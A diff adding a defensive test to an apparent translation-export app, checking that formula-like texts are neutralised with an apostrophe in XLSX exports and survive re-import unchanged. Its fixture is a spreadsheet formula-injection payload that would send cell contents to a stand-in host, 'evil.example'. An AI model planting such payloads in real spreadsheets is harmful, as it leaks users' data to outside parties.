@@ -185,6 +185,35 @@ def test_an_import_is_checked_again_when_confirmed(world, login_as, own):
     assert not response.context["plan"].ok
 
 
+def test_formula_like_texts_are_neutralised_in_the_xlsx_and_come_back_unchanged(
+    world, login_as, own
+):
+    """A question that begins with "=" is text in the workbook (an apostrophe before it, never
+    a formula), and importing the file back changes nothing: the reader takes the mark off."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"klicka")'
+    translations.texts_apply(
+        version=own,
+        by=world.kalmar_ngo,
+        changes=[("item.T-NET-01.text", "sv", formula), ("item.T-NET-01.text", "so", "-1 dhib")],
+    )
+    client = login_as(world.kalmar_ngo)
+    exported = client.get(url("translations_export", own, world)).content
+    sheet = load_workbook(io.BytesIO(exported))["texts"]
+    header = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "item.T-NET-01.text")
+    cell = row[header.index("sv")]
+    assert (cell.value, cell.data_type) == ("'" + formula, "s")
+    assert row[header.index("so")].value == "'-1 dhib"
+
+    before = snapshot(own)
+    preview = upload(client, own, world, "oversattning.xlsx", exported)
+    assert preview.context["plan"].ok
+    assert preview.context["plan"].changes == []
+    confirm(client, own, world, preview)
+    assert snapshot(own) == before
+    assert before["item.T-NET-01.text"]["sv"] == formula
+
+
 def test_an_xlsx_can_be_imported_for_one_language_only(world, login_as, own):
     client = login_as(world.kalmar_ngo)
     workbook = translation_sheet(
